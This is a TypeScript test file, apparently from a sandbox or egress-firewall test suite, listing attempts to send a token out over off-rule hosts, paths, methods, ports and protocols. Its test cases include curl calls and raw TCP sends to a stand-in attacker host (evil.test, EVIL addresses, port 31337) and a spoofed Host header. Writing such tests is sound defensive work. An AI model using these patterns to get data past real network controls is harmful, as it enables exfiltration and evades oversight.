/** Another port, another protocol on it. */
import type {Attempt} from '../attempt.ts';
import {EVIL, SITES} from '../addresses.ts';
import {http, say} from '../wire.ts';

const tcp = (id: string, title: string, ip: (v: typeof EVIL) => string, port: number): Attempt => ({
  id,
  title,
  invariant: 3,
  attempt: async (by) => void (await say(by.connect(ip(EVIL), port), `${by.token}\r\n`)),
  control: 'free',
});

export const PORTS: readonly Attempt[] = [
  {
    id: 'ports-http',
    title: 'plain HTTP to a name that no rule holds',
    invariant: 1,
    attempt: async (by) => void (await by.curl(`http://evil.test/${by.token}`)),
    control: 'free',
  },
  {
    id: 'ports-https',
    title: 'HTTPS to a name that no rule holds',
    invariant: 1,
    attempt: async (by) => void (await by.curl(`https://evil.test/${by.token}`)),
    control: 'free',
  },
  {
    id: 'ports-path',
    title: 'HTTPS to an allowed name, a path that the rule does not hold',
    invariant: 1,
    attempt: async (by) => void (await by.curl(`https://allowed.test/private/${by.token}`)),
    control: 'free',
  },
  {
    id: 'ports-method',
    title: 'HTTPS to an allowed name and path, a method that the rule does not hold',
    invariant: 1,
    attempt: async (by) => void (await by.curl('-X', 'DELETE', `https://allowed.test/public/${by.token}`)),
    control: 'free',
  },
  {
    id: 'ports-8443',
    title: 'HTTPS to an allowed name on another port',
    invariant: 3,
    attempt: async (by) => void (await by.curl(`https://allowed.test:8443/public/${by.token}`)),
    control: 'free',
  },
  {
    id: 'ports-http-on-443',
    title: 'plain HTTP on the TLS port',
    invariant: 3,
    attempt: async (by) => void (await by.curl(`http://allowed.test:443/public/${by.token}`)),
    control: 'free',
  },
  {
    id: 'ports-tls-on-80',
    title: 'TLS on the plain HTTP port',
    invariant: 3,
    attempt: async (by) => void (await by.curl(`https://plain.test:80/public/${by.token}`)),
    control: 'free',
  },
  tcp('ports-ssh', 'SSH to an address that no rule holds', (to) => to[4], 22),
  tcp('ports-smtp', 'SMTP to an address that no rule holds', (to) => to[4], 25),
  tcp('ports-high', 'opaque bytes on a high port', (to) => to[4], 31337),
  tcp('ports-zero', 'opaque bytes on port 65535', (to) => to[4], 65535),
  {
    id: 'ports-opaque-other',
    title: 'a tcp rule’s port on another address',
    invariant: 3,
    attempt: async (by) => void (await say(by.connect(EVIL[4], 9000), by.token)),
    control: 'free',
  },
  {
    id: 'ports-opaque-port',
    title: 'a tcp rule’s address on another port',
    invariant: 3,
    attempt: async (by) => void (await say(by.connect(SITES.opaque, 9001), by.token)),
    control: 'free',
  },
  {
    id: 'ports-garbage-443',
    title: 'bytes that are no TLS on port 443 of an allowed site',
    invariant: 3,
    attempt: async (by) => void (await say(by.connect(SITES.allowed, 443), `\x00\x01${by.token}\n`)),
    control: 'free',
  },
  {
    id: 'ports-server-first',
    title: 'waiting for a greeting that does not come, then opaque bytes',
    invariant: 3,
    attempt: async (by) => void (await say(by.connect(SITES.allowed, 443), '', '', by.token)),
    control: 'free',
  },
  {
    id: 'ports-http-other-host',
    title: 'an allowed address with the Host of another site',
    invariant: 2,
    attempt: async (by) =>
      void (await say(by.connect(SITES.plain, 80), http(`GET /public/${by.token} HTTP/1.1`, 'Host: evil.test'))),
    control: 'free',
  },
];
